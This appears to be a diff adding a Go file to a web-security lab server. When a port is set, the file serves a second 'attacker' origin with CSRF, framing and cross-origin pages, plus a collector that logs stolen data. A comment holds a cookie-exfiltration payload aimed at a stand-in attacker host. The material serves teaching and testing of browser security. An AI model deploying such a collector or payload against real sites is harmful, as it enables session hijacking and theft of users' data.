@@ -0,0 +1,128 @@
+package main
+
+import (
+	"fmt"
+	"html/template"
+	"net"
+	"net/http"
+	"path/filepath"
+	"slices"
+	"sync"
+	"time"
+)
+
+// The attacker site: with ATTACKER_PORT set, gosrv serves a second origin
+// on that port, so the same-origin experiments need no separate server.
+// Its pages attack the main listener, the victim, from another origin:
+// cross-origin fetches, a self-submitting CSRF form, framing, and a
+// collector for whatever an XSS payload exfiltrates.
+
+const maxLoot = 100
+
+// Loot is one request to the collector.
+type Loot struct {
+	Received time.Time
+	From     string // the Referer, the page the payload ran on
+	Data     string
+}
+
+var (
+	lootMu sync.Mutex
+	loot   []Loot // newest first
+)
+
+// victimOrigin is the main listener as seen from the browser: the host the
+// attacker page was loaded from, on the main port. VICTIM_ORIGIN overrides
+// it, e.g. behind an ingress.
+func victimOrigin(r *http.Request) string {
+	if origin := envOr("VICTIM_ORIGIN", ""); origin != "" {
+		return origin
+	}
+	host, _, err := net.SplitHostPort(r.Host)
+	if err != nil {
+		host = r.Host
+	}
+	return "http://" + net.JoinHostPort(host, listenPort)
+}
+
+type AttackerPage struct {
+	Victim   string // origin of the main listener
+	Attacker string // our own origin
+	Loot     []Loot
+}
+
+func renderAttackerPage(w http.ResponseWriter, r *http.Request, name string) {
+	tmpl, err := template.ParseFiles(filepath.Join("templates", name), filepath.Join("templates", "attacker-loot.html"))
+	if err != nil {
+		http.Error(w, "template error: "+err.Error(), http.StatusInternalServerError)
+		return
+	}
+	lootMu.Lock()
+	collected := slices.Clone(loot)
+	lootMu.Unlock()
+	tmpl.Execute(w, AttackerPage{
+		Victim:   victimOrigin(r),
+		Attacker: "http://" + r.Host,
+		Loot:     collected,
+	})
+}
+
+// stealHandler collects ?c=, or a posted c, from payloads like
+// new Image().src = "http://attacker/steal?c=" + document.cookie
+func stealHandler(w http.ResponseWriter, r *http.Request) {
+	l := Loot{Received: time.Now(), From: r.Referer(), Data: r.FormValue("c")}
+	fmt.Printf("attacker: stole %q from %s\n", l.Data, l.From)
+	lootMu.Lock()
+	loot = slices.Insert(loot, 0, l)
+	if len(loot) > maxLoot {
+		loot = loot[:maxLoot]
+	}
+	lootMu.Unlock()
+	// the payload never reads the answer, it only has to send the request
+	w.Header().Set("Access-Control-Allow-Origin", "*")
+	w.WriteHeader(http.StatusNoContent)
+}
+
+func lootHandler(w http.ResponseWriter, r *http.Request) {
+	tmpl, err := template.ParseFiles(filepath.Join("templates", "attacker-loot.html"))
+	if err != nil {
+		http.Error(w, "template error: "+err.Error(), http.StatusInternalServerError)
+		return
+	}
+	lootMu.Lock()
+	defer lootMu.Unlock()
+	tmpl.Execute(w, loot)
+}
+
+func attackerMux() *http.ServeMux {
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
+		renderAttackerPage(w, r, "attacker.html")
+	})
+	mux.HandleFunc("GET /csrf", func(w http.ResponseWriter, r *http.Request) {
+		renderAttackerPage(w, r, "attacker-csrf.html")
+	})
+	mux.HandleFunc("GET /frame", func(w http.ResponseWriter, r *http.Request) {
+		renderAttackerPage(w, r, "attacker-frame.html")
+	})
+	mux.HandleFunc("/steal", stealHandler)
+	mux.HandleFunc("GET /loot", lootHandler)
+	// the SOP page fetches /json from a second origin
+	mux.HandleFunc("/json", jsonHandler)
+	mux.Handle("/styles.css", http.FileServer(http.Dir("./static/")))
+	return mux
+}
+
+// startAttacker serves the attacker site on ATTACKER_PORT, if set.
+func startAttacker() {
+	port := envOr("ATTACKER_PORT", "")
+	if port == "" {
+		return
+	}
+	fmt.Println("Attacker site listening on :" + port)
+	go func() {
+		if err := http.ListenAndServe(":"+port, loggingDecorator(attackerMux())); err != nil {
+			fmt.Println("attacker site stopped:", err)
+		}
+	}()
+}